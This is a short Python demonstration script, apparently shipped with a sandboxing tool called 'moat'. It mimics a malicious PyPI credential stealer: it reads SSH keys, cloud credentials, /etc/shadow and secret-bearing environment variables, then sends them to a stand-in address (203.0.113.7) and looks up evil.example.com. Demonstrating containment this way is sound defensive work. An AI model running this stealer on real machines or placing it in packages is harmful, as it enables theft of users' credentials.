"""A typical credential stealer, as found in malicious PyPI packages.

It looks for SSH keys, cloud credentials and tokens in the environment,
then tries to send what it found to a server. Run it under moat:

    moat run examples/steal_secrets.py
"""
import glob
import json
import os
import socket
import urllib.request

loot = {}
home = os.path.expanduser("~")
for pattern in ["~/.ssh/id_*", "~/.aws/credentials", "~/.netrc", "~/.pypirc",
                "/root/.ssh/*", "/home/*/.ssh/*", "/etc/shadow"]:
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            with open(path) as f:
                loot[path] = f.read()[:200]
        except OSError as e:
            loot[path] = f"<{e.__class__.__name__}>"

loot["env"] = {k: v for k, v in os.environ.items()
               if any(s in k for s in ("TOKEN", "SECRET", "KEY", "PASSWORD"))}
print("found:", json.dumps(loot, indent=1))

try:
    req = urllib.request.Request("http://203.0.113.7/collect", data=json.dumps(loot).encode())
    urllib.request.urlopen(req, timeout=3)
    print("exfiltrated!")
except Exception as e:
    print("phone home failed:", e)

try:
    print("resolved:", socket.gethostbyname("evil.example.com"))
except OSError as e:
    print("dns failed:", e)
